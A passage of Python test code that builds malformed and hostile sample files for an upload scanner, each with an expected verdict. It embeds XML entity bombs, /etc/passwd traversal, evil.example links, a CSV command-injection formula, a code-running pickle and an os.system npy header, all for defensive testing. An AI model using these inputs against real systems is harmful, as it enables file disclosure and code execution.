        add(f"TIFF: overviews elsewhere, {what}", "a.tif", data, "reject", "traversal")
    for what, text in (("VRT", VRT.format("/etc/passwd")), ("WMS", WMS), ("entities", EXTERNAL), ("JSON", '{"type": "x"}')):
        add(f"{what} named .tif", "a.tif", text.encode(), "reject", "disguised")

    for what, text in (("expansion", BILLION_LAUGHS), ("external", EXTERNAL), ("parameter", PARAMETER)):
        for file in ("a.kml", "a.svg", "a.gpx", "a.xml", "a"):
            add(f"XML entities, {what}: {file}", file, text.encode(), "reject", "xml_entities")
        add(f"XML entities, {what}: UTF-16", "a.kml", text.encode("utf-16"), "reject", "xml_entities")
    add("XML: UTF-7", "a.xml", b'<?xml version="1.0" encoding="UTF-7"?><a/>', "reject", "xml_encoding")
    add("XML: XInclude", "a.kml", INCLUDE.encode(), "reject", "xml_include")
    add(
        "XML: external document type",
        "a.svg",
        b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/x.dtd"><svg/>',
        "flag",
        "xml_doctype",
    )
    add("XML: deep", "a.xml", b"<a>" * 5000 + b"</a>" * 5000, "reject", "xml_depth")
    add("XML: broken", "a.kml", b"<kml><a></kml>", "reject", "bad_xml")
    add("SVG with script", "a.svg", b"<svg><script>x()</script></svg>", "flag", "active_content")
    add("SVG with handler", "a.svg", b'<svg onload="x()"/>', "flag", "active_content")
    add(
        "KML asks the network",
        "a.kml",
        b"<kml><NetworkLink><Link><href>http://evil.example/</href></Link></NetworkLink></kml>",
        "flag",
        "links_outside",
    )
    add("KML overlay leads out", "a.kml", b"<kml><Icon><href>file:///etc/passwd</href></Icon></kml>", "reject", "traversal")
    add("VRT leads out", "a.vrt", VRT.format("/etc/passwd").encode(), "reject", "traversal")
    add("VRT leads up", "a.vrt", VRT.format("../../x.tif").encode(), "reject", "traversal")
    add("VRT asks the network", "a.vrt", VRT.format("/vsicurl/http://evil.example/x.tif").encode(), "reject", "traversal")
    add("VRT beside its files", "a.vrt", VRT.format("x.tif").encode(), "flag", "raster_recipe")
    add(
        "VRT with a program",
        "a.vrt",
        b"<VRTDataset><PixelFunctionCode>import os</PixelFunctionCode></VRTDataset>",
        "flag",
        "active_content",
    )
    add("WMS", "a.xml", WMS.encode(), "flag", "raster_recipe")

    add("STAC: network", "a.json", stac("https://evil.example/x.tif"), "flag", "links_outside")
    for what, href in (
        ("up", "../../x.tif"),
        ("absolute", "/etc/passwd"),
        ("file", "file:///etc/passwd"),
        ("vsi", "/vsicurl/http://x/y.tif"),
        ("percent", "%2e%2e%2fx"),
        ("backslash", "..\\x"),
        ("drive", "C:\\x"),
    ):
        add(f"STAC asset: {what}", "a.json", stac(href), "reject", "traversal")
    add("STAC link: up", "a.json", stac("../catalog.json", where="links"), "flag", "links_outside")
    add("STAC link: absolute", "a.json", stac("/etc/passwd", where="links"), "reject", "traversal")
    for what, text in (
        ("name twice", b'{"a":1,"a":2}'),
        ("NaN", b'{"a":NaN}'),
        ("infinity", b'{"a":1e999}'),
        ("byte order mark", b"\xef\xbb\xbf{}"),
        ("deep", b"[" * 5000),
        ("surrogate", b'"\\ud800"'),
        ("long integer", b"[" + b"9" * 5000 + b"]"),
        ("UTF-16", "{}".encode("utf-16")),
    ):
        add(f"JSON: {what}", "a.json", text, "reject", "bad_json")
        if what not in ("surrogate", "UTF-16"):
            add(f"GeoJSON: {what}", "a.geojson", text, "reject", "bad_json")
    add("JSON: byte order mark, no suffix", "a", b"\xef\xbb\xbf{}", "reject", "bad_json")
    add("JSON lines: name twice", "a.jsonl", b'{"a":1}\n{"a":1,"a":2}\n', "reject", "bad_json")
    add("JSON: too many objects", "a.json", b"[" + b"{}," * 3_000_000 + b"{}]", "flag", "too_large")

    for what, cell in (
        ("equals", "=1+1"),
        ("plus", "+cmd|' /C calc'!A0"),
        ("minus", "-1+cmd"),
        ("at", "@SUM(1)"),
        ("tab", '"\t=1"'),
        ("return", '"\r=1"'),
    ):
        add(f"CSV formula: {what}", "a.csv", f"name,value\nx,{cell}\n".encode(), "flag", "formula")
    add("TSV formula", "a.tsv", b"name\tvalue\nx\t=1+1\n", "flag", "formula")
    add("CSV formula in GB 18030", "a.csv", "名称,数值\n甲,=1+1\n".encode("gb18030"), "flag", "formula")
    add("CSV that is no text", "a.csv", b"a,b\n\x00\x01", "reject", "disguised")
    add("XLSX formula", "a.xlsx", workbook("x", "WEBSERVICE(1)"), "flag", "member_flag")
    add("XLSX text like a formula", "a.xlsx", workbook("=1+1"), "flag", "member_flag")

    payload = pickle.dumps(Runs())
    for file in ("a.pkl", "a.pickle", "a.joblib", "a.pt", "a"):
        add(f"pickle: {file}", file, payload, "reject", "pickle")
    add("pickle: text protocol", "a.pkl", pickle.dumps(Runs(), protocol=0), "reject", "pickle")
    add("pickle: npy of objects", "a.npy", npy("'|O'", data=payload), "reject", "pickle")
    add("pickle: npy with a field of objects", "a.npy", npy("[('a', '<f8'), ('b', '|O')]", data=payload), "reject", "pickle")
    add("pickle: npz", "a.npz", archive({"a.npy": npy("'|O'", data=payload)}), "reject", "member")
    add("pickle: PyTorch zip", "a.zip", archive({"m/data.pkl": payload}), "reject", "member")
    add("npy: shape lies", "a.npy", npy("'<f8'", shape="(1000000000,)"), "reject", "cut_short")
    add("npy: bytes appended", "a.npy", npy("'<f8'", data=bytes(16) + b"hidden"), "flag", "appended")
    add("npy: program in the header", "a.npy", npy("__import__('os').system('x')"), "reject", "bad_structure")

    add("SQLite: cut short", "a.gpkg", sqlite(9), "reject", "cut_short")
    add("SQLite: bytes appended", "a.gpkg", sqlite(2, on_disk=3), "flag", "appended")
    add(
        "shapefile: length lies",
        "a.shp",
        b"\x00\x00\x27\x0a" + bytes(20) + struct.pack(">I", 5000) + struct.pack("<I", 1000) + bytes(68),
        "reject",
        "cut_short",
    )
    add(
        "HEIC: box longer than the file",
        "a.heic",
        struct.pack(">I", 24) + b"ftypheic" + bytes(12) + struct.pack(">I", 1 << 30) + b"meta",
        "reject",
        "cut_short",
    )
    add("checkpoint: cut", "c", CHECKPOINT.replace(b"\n1\n", b"\n01\n"), "reject", "bad_signed")
    add("proof: wrong version", "p.tlog", PROOF.replace(b"@v1", b"@v2"), "reject", "bad_signed")
    add("proof: hash of other length", "p.tlog", PROOF.replace(b"index 0\n", b"index 0\nYQ==\n"), "reject", "bad_signed")
    add("DSSE: loose base64", "s.dsse", json.dumps({**DSSE, "payload": "e30"}).encode(), "reject", "bad_signed")
    add("DSSE: no signature", "s.dsse", json.dumps({**DSSE, "signatures": []}).encode(), "reject", "bad_signed")
    add("time stamp: garbage", "t.tsr", b"\x30\x03\x02\x01\x00", "reject", "bad_signed")
    add("JPEG: fill bytes without end", "a.jpg", jpeg()[:-2] + b"\xff" * (4 << 20), "reject", "cut_short")
    add("JPEG: tiny segments without end", "a.jpg", b"\xff\xd8\xff" + b"\xe0\x00\x02\xff" * 200_000, "reject", "bad_structure")
    add("GIF: tiny blocks without end", "a.gif", gif()[:24] + b"\x01\x00" * 700_000, "reject", "bad_structure")
    many = b"".join(struct.pack("<HHHII", 1, 273, 4, 400_000, 8) + struct.pack("<I", 8 + 18 * (n + 1)) for n in range(4000))
    add(
        "TIFF: thousands of directories on one list",
        "a.tif",
        b"II*\x00\x08\x00\x00\x00" + many + bytes(1_600_000),
        "reject",
        "bad_structure",
    )
    pointers = struct.pack("<HHHIII", 1, 0x014A, 4, 16, 8, 0)
    web = b"".join(pointers[:10] + struct.pack("<I", 36_008) + pointers[14:] for _ in range(2000))
    add(
        "EXIF: a web of directories",
        "a.jpg",
        photo(b"II*\x00\x08\x00\x00\x00" + web + struct.pack("<16I", *(8 + 18 * n for n in range(1, 17)))),
        "reject",
        "loop",
    )
    add("empty file", "a.jpg", b"", "flag", "empty")
    return [Attack(*row) for row in rows]


# ---------------------------------------------------------------- structures that break one rule each


def shapefile(*, words: int = 50, mark: int = 0x270A, box: float = 0.0) -> bytes:
    """Header of a .shp: length in 16-bit words, bounding box."""
    return struct.pack(">I20xI", mark, words) + struct.pack("<II4d", 1000, 1, box, 0.0, 0.0, 0.0) + bytes(32)


def dbf(*, start: int = 33, width: int = 1, records: int = 3, data: int = 3) -> bytes:
    return struct.pack("<B3xIHH20x", 3, records, start, width) + b"\r" + b" " * data


def box(kind: bytes, body: bytes = b"", *, length: int | None = None, wide: bool = False) -> bytes:
    """One box of ISO/IEC 14496-12, with its length in 32 or 64 bits."""
    if wide:
        return struct.pack(">I4sQ", 1, kind, 16 + len(body)) + body
    return struct.pack(">I4s", 8 + len(body) if length is None else length, kind) + body


MP4 = box(b"ftyp", b"mp42\x00\x00\x00\x00mp42isom")


def webp(length: int, body: bytes = bytes(8)) -> bytes:
    return b"RIFF" + struct.pack("<I", length) + b"WEBP" + body


def segment(marker: int, body: bytes) -> bytes:
    return b"\xff" + bytes([marker]) + struct.pack(">H", len(body) + 2) + body


def jpeg_with(*parts: bytes) -> bytes:
    return b"\xff\xd8" + b"".join(parts) + jpeg()[2:]


def frame(precision: int = 8, components: int = 1, factors: bytes = b"\x11") -> bytes:
    """A JPEG that has this frame header and no other."""
    body = struct.pack(">BHHB", precision, 30, 40, components)
    body += b"".join(bytes([n + 1, factors[n % len(factors)], 0]) for n in range(components))
    whole = jpeg()
    at = whole.index(b"\xff\xc0")
    return whole[:at] + segment(0xC0, body) + whole[at + 13 :]


def index_block(body: bytes) -> bytes:
    """A JPEG with a multi-picture index of these bytes, and a second picture that the index does not explain."""
    return jpeg_with(segment(0xE2, b"MPF\x00" + body)) + jpeg()


def gzipped(*, flags: int = 0, head: bytes = b"", data: bytes = b"text") -> bytes:
    packed = zlib.compressobj(wbits=-15)
    raw = packed.compress(data) + packed.flush()
    return b"\x1f\x8b\x08" + bytes([flags]) + bytes(6) + head + raw + struct.pack("<II", zlib.crc32(data), len(data))


def pax(*records: bytes, kind: bytes = b"x", whole: bytes | None = None) -> bytes:
    """A tar whose first header is of extended records (POSIX pax)."""
    body = whole if whole is not None else b"".join(records)
    info = tarfile.TarInfo("PaxHeaders/x")
    info.type, info.size = kind, len(body)
    return info.tobuf(tarfile.USTAR_FORMAT) + body.ljust(-(-len(body) // 512) * 512, b"\x00") + tarred("a.txt")


def with_extra(extra: bytes, *, name: str = "a") -> bytes:
    """A zip entry with this extra field in both of its headers."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as target:
        info = zipfile.ZipInfo(name)
        info.extra = extra
        target.writestr(info, b"a")
    return buffer.getvalue()


def longer_entry(data: bytes) -> bytes:
    for mark, offset in ((b"PK\x01\x02", 20), (b"PK\x03\x04", 18)):
        data = patched(patched(data, mark, offset, "<I", 99), mark, offset + 4, "<I", 99)
    return data


def streamed_zip() -> bytes:
    """A zip written to a pipe: its sizes stand after the data (APPNOTE 4.3.9)."""
    return patched(descriptor_lies(), b"PK\x07\x08", 12, "<I", 300)


def exif_with(**changes: object) -> bytes:
    return photo(exif({0x0131: b"camera"}, **changes))  # type: ignore[arg-type]


def structures() -> list[Attack]:
    """Files of which one number or mark is not what their format asks, and sound ones beside them."""
    zip_, stored = archive({"a": b"a"}), archive({"a": b"a"}, method=zipfile.ZIP_STORED)
    rows: dict[str, tuple[str, bytes, str, str]] = {
        "npy: version": ("a.npy", b"\x93NUMPY\x04\x00" + bytes(20), "reject", "bad_structure"),
        "npy: header without end": ("a.npy", b"\x93NUMPY\x02\x00\xff\xff\xff\x7f" + bytes(20), "reject", "bad_structure"),
        "npy: records of plain numbers": ("a.npy", npy("[('a', '<i4')]"), "accept", "sound"),
        "sqlite: page size": ("a.gpkg", patched(sqlite(), b"SQLite", 16, ">H", 1000), "reject", "bad_structure"),
        "sqlite: pages that were not counted": ("a.gpkg", patched(sqlite(), b"SQLite", 24, ">I", 77), "accept", "sound"),
        "sqlite: write-ahead log": ("a.gpkg", patched(sqlite(), b"SQLite", 18, ">H", 0x0202), "flag", "unfinished"),
        "shp: mark": ("a.shp", shapefile(mark=7), "reject", "bad_structure"),
        "shp: cut": ("a.shp", shapefile(words=51), "reject", "cut_short"),
        "shp: appended": ("a.shp", shapefile(words=49), "flag", "appended"),
        "shp: box that is no number": ("a.shp", shapefile(box=float("nan")), "reject", "bad_structure"),
        "dbf: records without width": ("a.dbf", dbf(width=0), "reject", "bad_structure"),
        "dbf: cut": ("a.dbf", dbf(records=4), "reject", "cut_short"),
        "dbf: appended": ("a.dbf", dbf(data=9), "flag", "appended"),
        "mp4: box to the end of the file": ("a.mp4", MP4 + box(b"mdat", bytes(9), length=0), "accept", "sound"),
        "mp4: long length": ("a.mp4", MP4 + box(b"mdat", bytes(9), wide=True), "accept", "sound"),
        "mp4: kind that is no word": ("a.mp4", MP4 + box(b"\x00\x01\x02\x03"), "reject", "bad_structure"),
        "mp4: appended": ("a.mp4", MP4 + box(b"free") + b"hidden\xff\xff\xff\xff", "flag", "appended"),
        "mp4: length below its own head": ("a.mp4", MP4 + box(b"free", length=7), "reject", "bad_structure"),
        "mp4: cut": ("a.mp4", MP4 + box(b"mdat", length=99), "reject", "cut_short"),
        "mp4: boxes without end": ("a.mp4", MP4 + box(b"free") * 100_001, "reject", "bad_structure"),
        "webp": ("a.webp", webp(12), "accept", "sound"),
        "webp: cut": ("a.webp", webp(13), "reject", "cut_short"),
        "webp: appended": ("a.webp", webp(12) + b"hidden", "flag", "appended"),
        "JPEG: marker without length": ("a.jpg", jpeg_with(b"\xff\x01"), "accept", "sound"),
        "JPEG: length below its own": ("a.jpg", jpeg_with(b"\xff\xe5\x00\x01"), "reject", "bad_structure"),
        "JPEG: a second start": ("a.jpg", jpeg_with(b"\xff\xd8\x00\x02"), "reject", "bad_structure"),
        "JPEG: stuffed byte between segments": ("a.jpg", jpeg_with(b"\xff\x00"), "reject", "bad_structure"),
        "JPEG: extended XMP": ("a.jpg", jpeg_with(segment(0xE1, b"http://ns.adobe.com/xmp/extension/\x00x")), "accept", "sound"),
        "JPEG: extended XMP with an entity": (
            "a.jpg",
            jpeg_with(segment(0xE1, b'http://ns.adobe.com/xmp/extension/\x00<!ENTITY a "b">')),
            "reject",
            "xml_entities",
        ),
        "JPEG: bits of a sample": ("a.jpg", frame(precision=1), "reject", "bad_structure"),
        "JPEG: five components": ("a.jpg", frame(components=5), "reject", "bad_structure"),
        "JPEG: sampling factor of none": ("a.jpg", frame(factors=b"\x01"), "reject", "bad_structure"),
        "JPEG: sampling factors beyond ten": ("a.jpg", frame(components=3, factors=b"\x44"), "reject", "bad_structure"),
        "JPEG: index in no byte order": ("a.jpg", index_block(b"XX*\x00" + bytes(20)), "flag", "appended"),
        "JPEG: index that ends too early": ("a.jpg", index_block(b"II*\x00\xff\x00\x00\x00"), "flag", "appended"),
        "JPEG: index of something else": (
            "a.jpg",
            index_block(b"II*\x00\x08\x00\x00\x00" + struct.pack("<HHHII", 1, 0xB000, 7, 4, 0)),
            "flag",
            "appended",
        ),
        "PNG: header of another length": ("a.png", b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", bytes(12)), "reject", "bad_structure"),
        "PNG: depth that the colour has not": (
            "a.png",
            b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 4, 3, 4, 2, 0, 0, 0)),
            "reject",
            "bad_structure",
        ),
        "PNG: pictures apart": ("a.png", png_with(chunk(b"IDAT", b""), chunk(b"tEXt", b"a\x00b")), "reject", "bad_structure"),
        "PNG: a picture of no data": (
            "a.png",
            b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 4, 3, 8, 0, 0, 0, 0)) + chunk(b"IEND", b""),
            "reject",
            "no_picture",
        ),
        "PNG: EXIF": ("a.png", png_with(chunk(b"eXIf", exif({0x0131: b"camera"}))), "accept", "sound"),
        "PNG: profile of no method": ("a.png", png_with(chunk(b"iCCP", b"a\x00\x01x")), "reject", "bad_structure"),
        "PNG: interlaced, smaller than its passes": (
            "a.png",
            b"\x89PNG\r\n\x1a\n"
            + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 1))
            + chunk(b"IDAT", zlib.compress(b"\x00\x07"))
            + chunk(b"IEND", b""),
            "accept",
            "sound",
        ),
        "TIFF: a directory of no tags": ("a.tif", tif([]), "reject", "bad_structure"),
        "TIFF: number of a type that is none": ("a.tif", tiff_with((256, 2, 1, 4)), "reject", "bad_structure"),
        "TIFF: BigTIFF with other offsets": ("a.tif", patched(tiff(big=True), b"II", 4, "<H", 4), "reject", "cut_short"),
        "TIFF: no width": ("a.tif", tiff_with(without=(256,)), "reject", "bad_structure"),
        "TIFF: no samples": ("a.tif", tiff_with((277, 3, 1, 0)), "reject", "bad_structure"),
        "TIFF: rows of no height": ("a.tif", tiff_with((278, 4, 1, 0)), "reject", "bad_structure"),
        "TIFF: tiles without a size": (
            "a.tif",
            tiff_with((324, 4, 1, 8), (325, 4, 1, 1), without=(273, 279)),
            "reject",
            "bad_structure",
        ),
        "TIFF: strips that are not there": ("a.tif", tiff_with(without=(273, 279)), "reject", "no_picture"),
        "TIFF: fewer strips than rows ask": ("a.tif", tiff_with((278, 4, 1, 1)), "reject", "bad_structure"),
        "TIFF: compressed in a way that is not read": ("a.tif", tiff_with((259, 3, 1, 5)), "accept", "sound"),
        "TIFF: an EXIF directory outside": ("a.tif", tiff_with((34665, 4, 1, 1 << 20)), "reject", "cut_short"),
        "GIF: a block of no kind": ("a.gif", gif()[:-1] + b"\x00", "reject", "bad_structure"),
        "GIF: no picture": ("a.gif", b"GIF89a" + struct.pack("<HHBBB", 1, 1, 0, 0, 0) + b"\x3b", "reject", "no_picture"),
        "zip: no end": ("a.zip", b"PK\x03\x04" + bytes(60), "reject", "bad_archive"),
        "zip: comment beyond the file": ("a.zip", patched(zip_, b"PK\x05\x06", 20, "<H", 9), "reject", "cut_short"),
        "zip: mark of a central header": ("a.zip", patched(zip_, b"PK\x01\x02", 0, "<H", 7), "reject", "bad_archive"),
        "zip: mark of a local header": (
            "a.zip",
            patched(archive({"a": b"a", "b": b"b"}), b"PK\x03\x04", 3, "<B", 7, nth=1),
            "reject",
            "bad_archive",
        ),
        "zip: an entry of another disk": ("a.zip", patched(zip_, b"PK\x01\x02", 34, "<H", 1), "reject", "bad_archive"),
        "zip: comment of an entry beyond the file": (
            "a.zip",
            patched(zip_, b"PK\x01\x02", 32, "<H", 0xFFFF),
            "reject",
            "bad_archive",
        ),
        "zip: stored in another size": (
            "a.zip",
            patched(patched(stored, b"PK\x01\x02", 24, "<I", 2), b"PK\x03\x04", 22, "<I", 2),
            "reject",
            "two_readings",
        ),
        "zip: extra field cut": ("a.zip", with_extra(b"\x01\x00\xff\x00"), "reject", "bad_archive"),
        "zip: two ZIP64 fields": ("a.zip", with_extra(b"\x01\x00\x00\x00" * 2), "reject", "two_readings"),
        "zip: ZIP64 field that is lacking": (
            "a.zip",
            patched(zip_, b"PK\x01\x02", 24, "<I", 0xFFFFFFFF),
            "reject",
            "bad_archive",
        ),
        "zip: Unicode path of the same name": (
            "a.zip",
            with_extra(struct.pack("<HHBI", 0x7075, 6, 1, zlib.crc32(b"a")) + b"a"),
            "accept",
            "sound",
        ),
        "zip: Unicode path that is no text": (
            "a.zip",
            with_extra(struct.pack("<HHBI", 0x7075, 7, 1, zlib.crc32(b"a")) + b"\xff\xfe"),
            "reject",
            "two_readings",
        ),
        "zip: a folder with content": ("a.zip", archive({"folder/": b"x"}), "reject", "two_readings"),
        "zip: a macro": ("a.zip", archive({"xl/vbaProject.bin": b"x"}), "flag", "active_content"),
        "tar: a number that is none": ("a.tar", resummed(tarred()[:124] + b"9" * 11 + tarred()[135:]), "reject", "bad_archive"),
        "tar: a number in base 256": (
            "a.tar",
            resummed(tarred()[:124] + b"\x80" + (1).to_bytes(11, "big") + tarred()[136:]),
            "accept",
            "sound",
        ),
        "tar: a number beyond any": (
            "a.tar",
            resummed(tarred()[:124] + b"\x80" + b"\xff" * 11 + tarred()[136:]),
            "reject",
            "bad_archive",
        ),
        "tar: a prefix": ("a.tar", resummed(tarred()[:345] + b"folder".ljust(155, b"\x00") + tarred()[500:]), "accept", "sound"),
        "tar: a folder with content": ("a.tar", resummed(tarred()[:156] + b"5" + tarred()[157:]), "reject", "two_readings"),
        "tar: a file named like a folder": ("a.tar", tarred("x/", data=b"a"), "reject", "two_readings"),
        "tar: a file of no name": ("a.tar", tarred("./"), "reject", "two_readings"),
        "tar: a file named as this folder": ("a.tar", tarred("."), "reject", "archive_name"),
        "tar: the folder itself": ("a.tar", tarred("./", kind=tarfile.DIRTYPE), "accept", "sound"),
        "tar: a name in Latin": ("a.tar", tarred(b"a\xe9".decode("utf-8", "surrogateescape")), "accept", "sound"),
        "tar: a long name": ("a.tar", tarred("n" * 150, form=tarfile.GNU_FORMAT), "accept", "sound"),
        "tar: a path in a global header": ("a.tar", pax(b"13 path=evil\n", kind=b"g"), "reject", "two_readings"),
        "tar: a comment in a global header": ("a.tar", pax(b"13 comment=x\n", kind=b"g"), "accept", "sound"),
        "tar: a record twice": ("a.tar", pax(b"13 comment=x\n" * 2), "reject", "two_readings"),
        "tar: a sparse file": ("a.tar", pax(b"22 GNU.sparse.major=1\n"), "reject", "two_readings"),
        "tar: a record of another length": ("a.tar", pax(b"14 comment=x\n"), "reject", "bad_archive"),
        "tar: a size that is no number": ("a.tar", pax(b"10 size=x\n"), "reject", "bad_archive"),
        "tar: a header beyond any": ("a.tar", pax(whole=bytes((1 << 20) + 1)), "reject", "bad_archive"),
        "tar: cut": ("a.tar", tarred(data=bytes(5000))[:2000], "reject", "cut_short"),
        "tar: no end": ("a.tar", tarred()[:1024], "reject", "cut_short"),
        "tar: appended": ("a.tar", tarred() + b"hidden", "flag", "appended"),
        "gzip": ("a.txt.gz", gzipped(), "accept", "sound"),
        "gzip: every field of the head": (
            "a.gz",
            gzipped(flags=4 | 8 | 16 | 2, head=b"\x02\x00xy" + b"name.txt\x00" + b"comment\x00" + b"\x00\x00"),
            "accept",
            "sound",
        ),
        "gzip: a name without end": ("a.gz", b"\x1f\x8b\x08\x08" + bytes(6) + b"name", "reject", "bad_structure"),
        "gzip: a name that leads elsewhere": ("a.gz", gzipped(flags=8, head=b"../x\x00"), "reject", "archive_name"),
        "gzip: another method": ("a.gz", b"\x1f\x8b\x07" + bytes(20), "reject", "bad_structure"),
        "gzip: no DEFLATE": ("a.gz", b"\x1f\x8b\x08\x00" + bytes(6) + b"\xff" * 20, "reject", "undecodable"),
        "gzip: cut": ("a.gz", gzipped(data=bytes(range(256)))[:-20], "reject", "cut_short"),
        "gzip: another sum": ("a.gz", gzipped()[:-8] + bytes(8), "reject", "checksum"),
        "gzip: appended": ("a.txt.gz", gzipped() + b"hidden", "flag", "appended"),
        "gzip: filled up": ("a.txt.gz", gzipped() + bytes(20), "accept", "sound"),
        "EXIF: no byte order": ("a.jpg", photo(b"XX*\x00" + bytes(20)), "flag", "exif_broken"),
        "EXIF: a directory outside": ("a.jpg", exif_with(pointer=1 << 20), "flag", "exif_broken"),
        "EXIF: a directory in a circle": ("a.jpg", exif_with(next_directory=8), "reject", "loop"),
        "EXIF: a preview that is no picture": ("a.jpg", exif_with(preview=b"\xff\xd8\xff\xd9"), "accept", "sound"),
        "JSON lines": ("a.jsonl", b'{"a":1}\n\n\x1e{"b":2}\r\n', "accept", "sound"),
        "JSON lines: one that is none": ("a.jsonl", b'{"a":1}\n{"a"', "reject", "bad_json"),
        "DSSE: without signatures": (
            "a.json",
            b'{"payload":"YQ==","payloadType":"t","signatures":[]}',
            "reject",
            "bad_signed",
        ),
        "JSON: a list": ("a.json", b"[1.5,2]", "accept", "sound"),
        "XML in UTF-16": ("a.kml", "<kml/>".encode("utf-16"), "accept", "sound"),
        "XML in UTF-16 without a mark": ("a.gml", '<?xml version="1.0"?><kml/>'.encode("utf-16-le"), "accept", "sound"),
        "XML in UTF-16 of the other order": ("a.gml", '<?xml version="1.0"?><kml/>'.encode("utf-16-be"), "accept", "sound"),
        "XML in GB 18030": (
            "a.kml",
            '<?xml version="1.0" encoding="GBK"?><kml>河</kml>'.encode("gb18030"),
            "accept",
            "sound",
        ),
        "XML in an encoding that is not read": (
            "a.kml",
            b'<?xml version="1.0" encoding="UTF-7"?><kml/>',
            "reject",
            "xml_encoding",
        ),
        "XML that is not in its encoding": ("a.gml", b"<kml>\xff\xfe\xff</kml>", "reject", "xml_encoding"),
        "XML: style sheet of the network": (
            "a.xml",
            b'<?xml-stylesheet href="http://evil.example/x.xsl"?><a/>',
            "flag",
            "links_outside",
        ),
        "XML: an instruction that points nowhere": ("a.xml", b"<?php x?><a/>", "accept", "sound"),
        "time stamp over a digest that is not known here": ("a.tsr", tree._unknown_digest(), "flag", "not_supported"),
        "time stamp: too large": ("a.tsr", bytes((1 << 20) + 1), "reject", "bad_signed"),
        "zip: a directory offset beyond the file": (
            "a.zip",
            patched(zip_, b"PK\x01\x02", 42, "<I", 0xFFFFFF),
            "reject",
            "cut_short",
        ),
        "zip: an entry longer than what is there": (
            "a.zip",
            longer_entry(stored),
            "reject",
            "archive_overlap",
        ),
        "zip: an entry that no directory lists": (
            "a.zip",
            gap_zip().replace(b"hidden!!", b"PK\x03\x04!!!!"),
            "reject",
            "two_readings",
        ),
        "zip: ZIP64 end of two disks": ("a.zip", patched(zip64_lies(), b"PK\x06\x07", 16, "<I", 2), "reject", "bad_archive"),
        "zip: ZIP64 size": (
            "a.zip",
            patched(
                patched(with_extra(struct.pack("<HHQ", 1, 8, 1)), b"PK\x01\x02", 24, "<I", 0xFFFFFFFF),
                b"PK\x03\x04",
                22,
                "<I",
                0xFFFFFFFF,
            ),
            "accept",
            "sound",
        ),
        "zip: Unicode path of a name in code page 437": (
            "a.zip",
            with_extra(struct.pack("<HHBI", 0x7075, 7, 1, zlib.crc32(b"\x82")) + "é".encode(), name="x").replace(
                b"x\x75", b"\x82\x75"
            ),
            "accept",
            "sound",
        ),
        "zip: sizes after the data": ("a.zip", streamed_zip(), "accept", "sound"),
        "zip: sizes after the data, another sum before them": (
            "a.zip",
            patched(streamed_zip(), b"PK\x03\x04", 14, "<I", 7),
            "reject",
            "two_readings",
        ),
        "zip: an empty file": ("a.zip", archive({"a.txt": b""}), "accept", "sound"),
        "zip: a flag two archives deep": (
            "a.zip",
            archive({"in.zip": archive({"x.csv": b"a,=1+cmd\n"})}),
            "flag",
            "member_flag",
        ),
        "tar: a size in an extended header": (
            "a.tar",
            tarred(form=tarfile.PAX_FORMAT, pax_headers={"size": "1"}),
            "accept",
            "sound",
        ),
        "EXIF: a position divided by nothing": (
            "a.jpg",
            photo(exif(position=(30.0, 104.0)).replace(struct.pack("<2I", 30, 1), struct.pack("<2I", 30, 0))),
            "accept",
            "sound",
        ),
        "EXIF: a directory longer than its block": ("a.jpg", exif_with(pointer=1), "flag", "exif_broken"),
        "EXIF: a value outside": ("a.jpg", photo(exif(sub={0x9003: b"2026:05:04 15:30:00"})[:-4]), "flag", "exif_broken"),
        "EXIF: a maker's note outside": ("a.jpg", photo(exif(sub={0x927C: b"in a way of its own"})[:-4]), "accept", "sound"),
        "EXIF and XMP: one instant in two zones": (
            "a.jpg",
            photo(
                exif(sub={0x9003: b"2026:05:04 15:30:00", 0x9011: b"+08:00"}),
                xmp(exif__DateTimeOriginal="2026-05-04T07:30:00Z"),
            ),
            "accept",
            "sound",
        ),
        "EXIF and XMP: two instants": (
            "a.jpg",
            photo(
                exif(sub={0x9003: b"2026:05:04 15:30:00", 0x9011: b"+08:00"}),
                xmp(exif__DateTimeOriginal="2026-05-04T08:30:00Z"),
            ),
            "flag",
            "times_differ",
        ),
        "PDF: no end": ("a.pdf", b"%PDF-1.7\n1 0 obj\n", "reject", "cut_short"),
        "STAC: one place outside, named twice": (
            "a.json",
            json.dumps(
                {"stac_version": "1.0.0", "links": [{"href": "http://x.example/a"}, [[{"href": "http://x.example/a"}]]]}
            ).encode(),
            "flag",
            "links_outside",
        ),
        "XML: declarations": ("a.xml", b"<!DOCTYPE x [<!ELEMENT x ANY>]><x/>", "reject", "xml_entities"),
        "XML: an entity from elsewhere": ("a.xml", b'<!DOCTYPE x SYSTEM "x.dtd"><x>&e;</x>', "reject", "xml_entities"),
        "SVG: a link that runs": ("a.svg", b'<svg><a href="javascript:x()"/></svg>', "flag", "active_content"),
        "SVG: a picture of the network": ("a.svg", b'<svg><image href="http://x.example/a.png"/></svg>', "flag", "links_outside"),
        "SVG: a picture above": ("a.svg", b'<svg><image href="../../a.png"/></svg>', "reject", "traversal"),
        "XML: a raster's metadata that leads up": ("a.xml", b"<a><mdi>../../etc/passwd</mdi></a>", "reject", "traversal"),
        "XML: a text of many lines": ("a.xml", b"<a>" + b"line\n" * 200 + b"</a>", "accept", "sound"),
        "workbook: a sheet with a document type": (
            "a.xlsx",
            archive({"xl/sharedStrings.xml": b"<!DOCTYPE sst><sst/>"}),
            "reject",
            "member",
        ),
        "table: no text behind the last line of its head": (
            "a.csv",
            b"a,b\n" * 16_383 + b"\x01" * 9,
            "reject",
            "text_encoding",
        ),
        "table: a cell without end": ("a.csv", b'a,"' + b"b" * 200_000, "reject", "bad_table"),
        "PNG: pixels in two pieces": (
            "a.png",
            b"\x89PNG\r\n\x1a\n"
            + chunk(b"IHDR", struct.pack(">IIBBBBB", 4, 3, 8, 0, 0, 0, 0))
            + b"".join(chunk(b"IDAT", part) for part in (zlib.compress(bytes(15))[:4], zlib.compress(bytes(15))[4:]))
            + chunk(b"IEND", b""),
            "accept",
            "sound",
        ),
        "PNG: no pixels": (
            "a.png",
            b"\x89PNG\r\n\x1a\n"
            + chunk(b"IHDR", struct.pack(">IIBBBBB", 4, 3, 8, 0, 0, 0, 0))
            + chunk(b"IDAT", b"")
            + chunk(b"IEND", b""),
            "reject",
